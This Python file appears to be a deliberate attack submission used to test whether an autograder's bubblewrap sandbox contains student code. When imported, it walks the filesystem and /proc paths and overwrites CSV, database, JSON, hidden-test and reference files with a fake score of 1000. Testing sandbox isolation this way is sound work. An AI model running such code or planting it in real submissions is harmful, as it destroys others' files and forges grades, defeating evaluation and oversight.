"""Attack: overwrite results, the gradebook, other students' files and the hidden tests.

Looks for score sheets, gradebooks and JSON results through the file system and /proc and
overwrites what it finds. Expected under bubblewrap: nothing outside the sandbox's /tmp is
writable, 0 points, the grader's files untouched. (bubblewrap only.)
"""
import os
import time

TARGETS = (".csv", ".sqlite", ".db", ".json", "hidden_tests.py", "toy_reference.py")
written = []


def _overwrite(path):
    try:
        with open(path, "w") as fh:
            fh.write("student,score\nattacker,1000\n")
        written.append(path)
    except OSError:
        pass


start = time.monotonic()
for root in ("/", f"/proc/{os.getppid()}/cwd", "/proc/1/cwd"):
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in ("/proc", "/sys", "/usr",
                                                                        "/tmp", "/dev")]
        for name in files:
            if name.endswith(TARGETS):
                _overwrite(os.path.join(folder, name))
        if time.monotonic() - start > 1.0:
            break


def add_bias(X):
    raise NotImplementedError(f"overwrote {written}")


scale = safe_div = apply = count_positive = add_bias
